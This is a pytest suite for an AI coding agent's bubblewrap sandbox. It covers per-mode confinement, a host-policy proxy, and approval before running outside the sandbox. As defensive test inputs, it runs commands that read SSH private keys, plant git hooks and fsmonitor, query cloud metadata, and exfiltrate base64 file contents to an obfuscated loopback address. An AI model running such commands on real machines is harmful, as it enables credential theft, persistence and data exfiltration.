"""The sandbox itself: how bwrap is found, what each column's walls let through, the proxy,
going outside only with a person's yes, and every other program agent-tui starts.

Everything runs for real: bubblewrap, the host-policy proxy on a Unix socket, a relay inside
the sandbox, curl against HTTP servers on the host's loopback, the registry and policy the
agent uses. The planted machine (``sandbox_support``) keeps HOME outside ``/tmp``.
"""

from __future__ import annotations

import http.server
import os
import shutil
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from venv import EnvBuilder

import pytest

from tests.conftest import Harness, make_harness
from tests.sandbox_support import (
    CANARY,
    SKIP_REASON,
    Planted,
    bwrap_works,
    changed,
    planted_machine,
    snapshot,
)
from tests.test_policy import ScriptedApprover
from tui.agent.hooks import run_hook_command
from tui.config.sections.hooks import HookCommand
from tui.events import ApprovalAnswer, ApprovalRequested, ToolCallStarted
from tui.exec.local import LocalBackend
from tui.exec.sandbox import bwrap as bwrap_module
from tui.exec.sandbox import sandbox as sandbox_module
from tui.exec.sandbox.bwrap import find_bwrap
from tui.exec.sandbox.places import Places
from tui.exec.sandbox.sandbox import Sandbox, SandboxRequired
from tui.security.confinement import (
    OUTSIDE,
    READ_ONLY,
    WORKSPACE,
    WORKSPACE_NET,
    Confinement,
    call_confinement,
    mode_confinement,
)
from tui.security.hosts import HostPolicy
from tui.security.offline import needs_no_network
from tui.security.permissions import ApprovalMode
from tui.security.policy import SecurityPolicy
from tui.security.risk.assess import assess_command

real_bwrap = pytest.mark.skipif(not bwrap_works(), reason=SKIP_REASON)


@pytest.fixture
def machine() -> Iterator[Planted]:
    with planted_machine() as planted:
        yield planted


async def started(sandbox: Sandbox) -> Sandbox:
    said = await sandbox.start()
    assert said is None, said
    return sandbox


def backend_on(machine: Planted, sandbox: Sandbox) -> LocalBackend:
    return LocalBackend(default_cwd=str(machine.workspace), sandbox=sandbox, drain_timeout=0.5)


def harness_on(
    machine: Planted, sandbox: Sandbox, mode: ApprovalMode, *answers: ApprovalAnswer
) -> tuple[Harness, ScriptedApprover | None]:
    """The registry and policy wired as the app wires them, with the sandbox following the
    policy's mode; with no ``answers`` there is nobody to ask."""
    approver = ScriptedApprover(*answers) if answers else None
    extra: dict[str, Any] = {"approver": approver} if approver is not None else {}
    harness = make_harness(
        machine.workspace,
        mode=mode,
        backend=backend_on(machine, sandbox),
        sandbox=sandbox.facts(),
        **extra,
    )
    sandbox.approval_mode = lambda: harness.policy.approval_mode
    return harness, approver


# -- the columns -------------------------------------------------------------------------------


def test_each_mode_maps_to_its_column_and_a_yes_in_ask_gives_auto_edit_never_more() -> None:
    assert mode_confinement(ApprovalMode.READ_ONLY) == READ_ONLY
    assert mode_confinement(ApprovalMode.ASK) == READ_ONLY
    assert mode_confinement(ApprovalMode.AUTO_EDIT) == WORKSPACE
    assert mode_confinement(ApprovalMode.AUTO_EDIT, edit_network=True) == WORKSPACE_NET
    assert mode_confinement(ApprovalMode.FULL_AUTO) == WORKSPACE_NET
    assert call_confinement(ApprovalMode.ASK, "mode") == READ_ONLY
    for how in ("approved", "approved_always", "grant", "rule", "hook"):
        assert call_confinement(ApprovalMode.ASK, how) == WORKSPACE
    assert call_confinement(ApprovalMode.READ_ONLY, "approved") == READ_ONLY
    assert call_confinement(ApprovalMode.ASK, "approved", outside=True) == OUTSIDE
    assert OUTSIDE.label == "OUTSIDE the sandbox"
    assert WORKSPACE.label == "sandbox: workspace, no network"
    assert WORKSPACE.covers(READ_ONLY) and not READ_ONLY.covers(WORKSPACE)
    assert OUTSIDE.covers(WORKSPACE_NET) and not WORKSPACE_NET.covers(OUTSIDE)
    assert Confinement.from_key(WORKSPACE_NET.key) == WORKSPACE_NET


# -- finding bwrap -------------------------------------------------------------------------


def test_a_bwrap_shipped_in_the_workspace_is_never_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace = tmp_path / "repo"
    (workspace / "bin").mkdir(parents=True)
    fake = workspace / "bin" / "bwrap"
    fake.write_text('#!/bin/sh\nexec "$@"\n')
    fake.chmod(0o755)
    monkeypatch.setattr(bwrap_module, "TRUSTED_DIRS", ())
    path = os.pathsep.join(["bin", str(workspace / "bin")])
    assert find_bwrap(workspace, path) is None
    elsewhere = tmp_path / "tools"
    elsewhere.mkdir()
    shutil.copy(fake, elsewhere / "bwrap")
    assert find_bwrap(workspace, os.pathsep.join([str(workspace / "bin"), str(elsewhere)])) == (
        str(elsewhere / "bwrap")
    )
    # A symlink out of the workspace into it is judged by where it lands.
    (elsewhere / "bwrap").unlink()
    (elsewhere / "bwrap").symlink_to(fake)
    assert find_bwrap(workspace, str(elsewhere)) is None


async def test_without_bwrap_auto_says_so_once_and_required_runs_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """bwrap missing (as in a container without it): ``find_bwrap`` is made to find nothing."""
    monkeypatch.setattr(sandbox_module, "find_bwrap", lambda *a, **k: None)
    auto = Sandbox(tmp_path)
    said = await auto.start()
    assert said is not None and "no sandbox" in said and "bubblewrap" in said
    assert await auto.start() is None  # once
    assert not auto.active and auto.facts().absent.startswith("no sandbox: the rater decides")
    assert await auto.wrap(["true"]) == ["true"]
    required = Sandbox(tmp_path, mode="required")
    said = await required.start()
    assert said is not None and "no command will run" in said
    backend = LocalBackend(default_cwd=str(tmp_path), sandbox=required)
    with pytest.raises(SandboxRequired):
        await backend.run("true")
    off = Sandbox(tmp_path, mode="off")
    assert "off" in (await off.start() or "")


# -- the walls -------------------------------------------------------------------------------


@real_bwrap
async def test_no_capabilities_inside_so_the_covers_cannot_be_lifted(machine: Planted) -> None:
    sandbox = await started(machine.sandbox())
    backend = backend_on(machine, sandbox)
    result = await backend.run(
        "grep CapEff /proc/self/status; umount ~/.ssh; cat ~/.ssh/id_rsa; "
        "mount -o remount,rw /; touch /etc/atui-x && echo WROTE-ETC",
        env=machine.env(),
        confinement=WORKSPACE,
    )
    output = result.stdout + result.stderr
    assert "CapEff:\t0000000000000000" in output
    assert CANARY not in output and "WROTE-ETC" not in output
    assert not Path("/etc/atui-x").exists()
    await sandbox.close()


@real_bwrap
async def test_auto_edit_writes_the_workspace_but_not_its_control_files(machine: Planted) -> None:
    sandbox = await started(machine.sandbox())
    backend = backend_on(machine, sandbox)
    hooks = snapshot(machine.workspace / ".git" / "hooks")
    result = await backend.run(
        "echo ok > made.txt && echo MADE; echo x > .git/hooks/pre-commit; "
        "git config core.fsmonitor ./evil; echo '{}' > .mcp.json; echo x > ~/.bashrc",
        env=machine.env(),
        confinement=WORKSPACE,
    )
    assert "MADE" in result.stdout
    assert (machine.workspace / "made.txt").read_text() == "ok\n"
    assert snapshot(machine.workspace / ".git" / "hooks") == hooks
    assert "fsmonitor" not in (machine.workspace / ".git" / "config").read_text()
    assert (machine.workspace / ".mcp.json").read_text() == "{}\n"
    assert (machine.home / ".bashrc").read_text() == "# the person's own\n"
    assert any("refused a write" in note and "outside_sandbox" in note for note in result.notices)
    await sandbox.close()


@real_bwrap
async def test_read_only_writes_nothing_but_a_private_tmp_and_says_why(machine: Planted) -> None:
    sandbox = await started(machine.sandbox())
    backend = backend_on(machine, sandbox)
    before = snapshot(machine.workspace)
    result = await backend.run(
        "echo t > /tmp/scratch && cat /tmp/scratch; touch made.txt",
        env=machine.env(),
        confinement=READ_ONLY,
    )
    assert result.stdout.startswith("t\n")
    assert "Read-only file system" in result.stderr
    assert changed(before, snapshot(machine.workspace)) == []
    assert any("read-only" in note and "outside_sandbox" in note for note in result.notices)
    assert not Path("/tmp/scratch").exists() or Path("/tmp/scratch").read_text() != "t\n"
    await sandbox.close()


def vanishing_places(sandbox: Sandbox, gone: Path, times: int) -> list[int]:
    """The first ``times`` lookups name a hidden file that is gone by the mount: what a
    history file rewritten at the wrong moment does, made certain. Counts the lookups."""
    real = sandbox.places
    calls: list[int] = []

    async def places() -> Places:
        found = await real()
        calls.append(1)
        if len(calls) <= times:
            found.hidden_files.append(str(gone))
        return found

    sandbox.places = places  # type: ignore[method-assign]
    return calls


@real_bwrap
async def test_a_hidden_place_gone_before_the_mount_builds_the_walls_again_once(
    machine: Planted,
) -> None:
    sandbox = await started(machine.sandbox())
    calls = vanishing_places(sandbox, machine.home / ".vanished_history", times=1)
    result = await backend_on(machine, sandbox).run(
        "echo ran >> runs.log; echo ok", env=machine.env(), confinement=WORKSPACE
    )
    assert result.exit_code == 0 and result.stdout == "ok\n", result
    assert len(calls) == 2
    assert (machine.workspace / "runs.log").read_text() == "ran\n"  # once, not twice
    assert any(note.startswith("the sandbox was built again") for note in result.notices)
    await sandbox.close()


@real_bwrap
async def test_walls_that_cannot_be_built_say_the_command_did_not_run(machine: Planted) -> None:
    sandbox = await started(machine.sandbox())
    calls = vanishing_places(sandbox, machine.home / ".vanished_history", times=2)
    result = await backend_on(machine, sandbox).run(
        "echo ran >> runs.log", env=machine.env(), confinement=WORKSPACE
    )
    assert result.exit_code == 1 and len(calls) == 2
    assert not (machine.workspace / "runs.log").exists()
    assert any("so the command did not run" in note for note in result.notices), result
    await sandbox.close()


@real_bwrap
async def test_a_command_that_fails_like_bwrap_runs_once(machine: Planted) -> None:
    """A command's own output cannot pass for a failed build and get itself run twice."""
    sandbox = await started(machine.sandbox())
    result = await backend_on(machine, sandbox).run(
        'echo ran >> runs.log; echo "bwrap: Can\'t bind mount /x: No such file" >&2; exit 1',
        env=machine.env(),
        confinement=WORKSPACE,
    )
    assert result.exit_code == 1
    assert (machine.workspace / "runs.log").read_text() == "ran\n"
    assert not any("sandbox" in note and "built" in note for note in result.notices)
    await sandbox.close()


@real_bwrap
async def test_the_users_skills_stay_readable_while_their_config_is_hidden(
    machine: Planted,
) -> None:
    sandbox = await started(machine.sandbox())
    backend = backend_on(machine, sandbox)
    result = await backend.run(
        "cat ~/.config/agent-tui/skills/hello/SKILL.md; cat ~/.config/agent-tui/config.toml",
        env=machine.env(),
    )
    assert "say hi" in result.stdout
    assert CANARY not in result.stdout + result.stderr
    await sandbox.close()


@real_bwrap
async def test_an_install_in_tmp_still_starts_its_own_python_inside(
    machine: Planted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """agent-tui installed in a venv under ``/tmp`` (covered by the private ``/tmp``): its own
    interpreter, which the relay, the REPL and hooks run inside the walls, still starts there,
    read-only, while the rest of ``/tmp`` stays out of sight."""
    assert str(tmp_path).startswith("/tmp/")
    venv = tmp_path / "try-venv"
    EnvBuilder(symlinks=True).create(venv)
    (tmp_path / "beside.txt").write_text(CANARY)
    monkeypatch.setattr(sys, "prefix", str(venv))  # this process's install, as far as it knows
    sandbox = await started(machine.sandbox())
    result = await backend_on(machine, sandbox).run(
        f"{venv}/bin/python -c 'print(\"inside\")'; touch {venv}/made; cat {tmp_path}/beside.txt",
        env=machine.env(),
        confinement=WORKSPACE,
    )
    assert result.stdout == "inside\n", result
    assert "Read-only file system" in result.stderr and not (venv / "made").exists()
    assert CANARY not in result.stdout + result.stderr
    await sandbox.close()


# -- the network ----------------------------------------------------------------------------


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"hello from the host\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        return


@pytest.fixture
def web_server() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@real_bwrap
@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
async def test_network_columns_reach_only_what_the_host_policy_allows(
    machine: Planted, web_server: int
) -> None:
    allowed = machine.sandbox()
    allowed.hosts = HostPolicy.from_lists(None, [])
    await started(allowed)
    backend = backend_on(machine, allowed)
    ok = await backend.run(
        # Loopback is the sandbox's own unless asked through the proxy (NO_PROXY keeps a
        # server the command starts itself reachable); the host's is the proxy's to judge.
        f"curl -sS --noproxy '' http://127.0.0.1:{web_server}/ ; "
        f"curl -sS --noproxy '' --socks5-hostname 127.0.0.1:3128 "
        f"http://127.0.0.1:{web_server}/via-socks",
        env=machine.env(),
        confinement=WORKSPACE_NET,
    )
    assert ok.stdout.count("hello from the host") == 2, ok.stdout + ok.stderr
    metadata = await backend.run(
        "curl -sS -m 5 http://169.254.169.254/latest/meta-data/",
        env=machine.env(),
        confinement=WORKSPACE_NET,
    )
    assert "cloud metadata service" in metadata.stdout + metadata.stderr
    assert any("proxy refused 169.254.169.254:80" in note for note in metadata.notices)
    # Closed, it leaves nothing in the temp folder: the proxy's socket folder, the empty file's.
    folders = [Path(await allowed.proxy().socket_path()).parent, Path(allowed._empty).parent]
    await allowed.close()
    assert [str(f) for f in folders if f.exists()] == []

    blocked = machine.sandbox()
    blocked.hosts = HostPolicy.from_lists(None, ["127.0.0.1"])
    await started(blocked)
    backend = backend_on(machine, blocked)
    connections = machine.listener.connections
    refused = await backend.run(
        f"curl -sS -m 5 --noproxy '' http://2130706433:{machine.listener.port}/$(base64 README.md);"
        f" NO_PROXY= no_proxy= git ls-remote "
        f"http://127.0.0.1:{machine.listener.port}/x",
        env=machine.env(),
        confinement=WORKSPACE_NET,
    )
    assert machine.listener.connections == connections
    assert "blocked_hosts" in refused.stdout + refused.stderr
    assert len(blocked.proxy().refusals) >= 2
    none = await backend.run(
        f"curl -sS -m 5 http://127.0.0.1:{web_server}/",
        env=machine.env(),
        confinement=WORKSPACE,
    )
    assert "hello" not in none.stdout
    assert any("no network" in note for note in none.notices)
    await blocked.close()


# -- going outside -------------------------------------------------------------------------


@real_bwrap
async def test_outside_runs_only_after_a_yes_in_every_mode_and_never_without_a_person(
    machine: Planted,
) -> None:
    sandbox = await started(machine.sandbox())
    marker = machine.home / "outside-proof"
    command = f"touch {marker}"
    arguments = {"command": command, "outside_sandbox": True, "why": "the task needs it"}
    for mode in ApprovalMode:
        marker.unlink(missing_ok=True)
        harness, approver = harness_on(machine, sandbox, mode, ApprovalAnswer.deny())
        assert approver is not None
        if mode is ApprovalMode.READ_ONLY:
            arguments_here = {**arguments, "command": "cat README.md"}
        else:
            arguments_here = arguments
        denied = await harness.call("run_shell", arguments_here)
        assert denied.is_error and "denied by user" in denied.text
        (request,) = approver.requests
        assert request.sandbox == "OUTSIDE the sandbox"
        assert "runs OUTSIDE the sandbox" in request.reason
        assert not marker.exists()
    # A yes, in full-auto: it runs outside, where the sandbox would have refused it.
    harness, _ = harness_on(machine, sandbox, ApprovalMode.FULL_AUTO, ApprovalAnswer.allow_once())
    result = await harness.call("run_shell", arguments)
    assert not result.is_error, result.text
    assert marker.exists()
    started_events = [e for e in harness.events if isinstance(e, ToolCallStarted)]
    assert started_events[-1].sandbox == "OUTSIDE the sandbox"
    # The same command without the request stays inside, and says how to go out.
    marker.unlink()
    inside = await harness.call("run_shell", {"command": command})
    assert not marker.exists() and "outside_sandbox=true" in inside.text
    # Nobody to ask: refused, with what to do instead.
    alone, _ = harness_on(machine, sandbox, ApprovalMode.FULL_AUTO)
    refused = await alone.call("run_shell", arguments)
    assert refused.is_error and "no one can give it here" in refused.text
    assert not marker.exists()
    await sandbox.close()


@real_bwrap
async def test_a_yes_in_ask_mode_gives_auto_edits_column_and_the_block_says_where(
    machine: Planted,
) -> None:
    sandbox = await started(machine.sandbox())
    harness, approver = harness_on(machine, sandbox, ApprovalMode.ASK, ApprovalAnswer.allow_once())
    assert approver is not None
    unasked = await harness.call("run_shell", {"command": "ls"})
    assert not unasked.is_error
    asked = await harness.call("run_shell", {"command": "touch approved.txt; echo x > ~/.bashrc"})
    assert (machine.workspace / "approved.txt").exists()
    assert (machine.home / ".bashrc").read_text() == "# the person's own\n"
    labels = [e.sandbox for e in harness.events if isinstance(e, ToolCallStarted)]
    assert labels == ["sandbox: read-only, no network", "sandbox: workspace, no network"]
    (request,) = [
        e for e in harness.events if isinstance(e, ApprovalRequested)
    ] or approver.requests
    assert request.sandbox == "sandbox: workspace, no network"
    assert "refused a write" in asked.text
    await sandbox.close()


@real_bwrap
async def test_full_auto_gives_no_network_to_a_command_that_needs_none(machine: Planted) -> None:
    """Each command in a sandbox of its own (``per_command``): ``ls`` and ``sleep`` get the
    workspace column without the network (no relay, no proxy socket inside); anything that
    may connect keeps full-auto's network; a shared pane's shell (``per_command`` off) keeps
    its one column for every command."""
    sandbox = await started(machine.sandbox())
    harness = make_harness(
        machine.workspace,
        mode=ApprovalMode.FULL_AUTO,
        backend=backend_on(machine, sandbox),
        sandbox=replace(sandbox.facts(), per_command=True),
    )
    sandbox.approval_mode = lambda: harness.policy.approval_mode
    quiet = await harness.call("run_shell", {"command": "ls -a /run/agent-tui; sleep 0"})
    talker = await harness.call("run_shell", {"command": "ls -a /run/agent-tui; python3 -c pass"})
    labels = [e.sandbox for e in harness.events if isinstance(e, ToolCallStarted)]
    assert labels == [
        "sandbox: workspace, no network",
        "sandbox: workspace, network through the host policy",
    ]
    assert "proxy.sock" not in quiet.text and "No such file" in quiet.text, quiet.text
    assert "proxy.sock" in talker.text, talker.text
    shared, _ = harness_on(machine, sandbox, ApprovalMode.FULL_AUTO)
    await shared.call("run_shell", {"command": "sleep 0"})
    (started_event,) = [e for e in shared.events if isinstance(e, ToolCallStarted)]
    assert started_event.sandbox == "sandbox: workspace, network through the host policy"
    await sandbox.close()


@pytest.mark.parametrize(
    ("command", "offline"),
    [
        ("sleep 1", True),
        ("cd src && ls -la | grep x > out.txt", True),
        ("env LC_ALL=C sort a.txt | uniq -c", True),
        ('ls "$(cat list.txt)"', True),
        ("curl https://example.com", False),
        ("sleep 1; curl https://example.com", False),
        ("timeout 5 wget x", False),
        ('bash -c "sleep 1"', False),
        ("echo hi > /dev/tcp/10.0.0.1/80", False),
        ("$PROGRAM --flag", False),
        ("f() { sleep 1; }; f", False),
        ("echo $(curl -s x)", False),
        ("find . -exec curl x \\;", False),
        ("xargs -n1 echo < list", True),  # the rater reads what xargs runs
        ("xargs -n1 curl < list", False),
        ('echo "unclosed', False),
        ("python3 -c pass", False),
    ],
)
def test_which_commands_need_no_network(command: str, offline: bool) -> None:
    assert needs_no_network(assess_command(command)) is offline


def test_a_policy_without_a_sandbox_labels_every_command_so() -> None:
    policy = SecurityPolicy(Path("/"))
    assert policy.where_label(None) == "no sandbox: the rater decides"


# -- every other program agent-tui starts ------------------------------------------------------


@real_bwrap
async def test_hooks_run_inside_the_workspace_walls(machine: Planted) -> None:
    sandbox = await started(machine.sandbox())
    hook = HookCommand(
        command="cat > hook-saw.json; echo x > $HOME/.bashrc; cat $HOME/.ssh/id_rsa; echo done"
    )
    outcome = await run_hook_command(
        hook,
        b'{"tool_name": "run_shell"}',
        cwd=str(machine.workspace),
        env=machine.env(),
        confine=sandbox.confiner(WORKSPACE),
    )
    assert outcome.exit_code == 0 and outcome.stdout.strip().endswith("done")
    assert (machine.workspace / "hook-saw.json").read_text() == '{"tool_name": "run_shell"}'
    assert CANARY not in outcome.stdout + outcome.stderr
    assert (machine.home / ".bashrc").read_text() == "# the person's own\n"
    await sandbox.close()


@real_bwrap
async def test_the_python_repl_runs_inside_and_restarts_when_its_walls_change(
    machine: Planted,
) -> None:
    sandbox = await started(machine.sandbox())
    harness, _ = harness_on(
        machine, sandbox, ApprovalMode.FULL_AUTO, *[ApprovalAnswer.allow_once()] * 4
    )
    code = (
        "import os\n"
        "home = os.environ['HOME']\n"
        "try:\n    open(home + '/.ssh/id_rsa').read(); print('READ-KEY')\n"
        "except OSError as e:\n    print('no key', type(e).__name__)\n"
        "open('repl-made.txt', 'w').write('x')\n"
        "try:\n    open(home + '/.bashrc', 'a').write('x'); print('WROTE-HOME')\n"
        "except OSError as e:\n    print('home refused', e.errno)\n"
    )
    try:
        result = await harness.call("python_repl", {"code": code})
        assert "no key" in result.text and "home refused" in result.text, result.text
        assert "READ-KEY" not in result.text and "WROTE-HOME" not in result.text
        assert (machine.workspace / "repl-made.txt").exists()
    finally:
        tool = harness.registry.get("python_repl")
        await tool.aclose()  # type: ignore[union-attr]
        await sandbox.close()
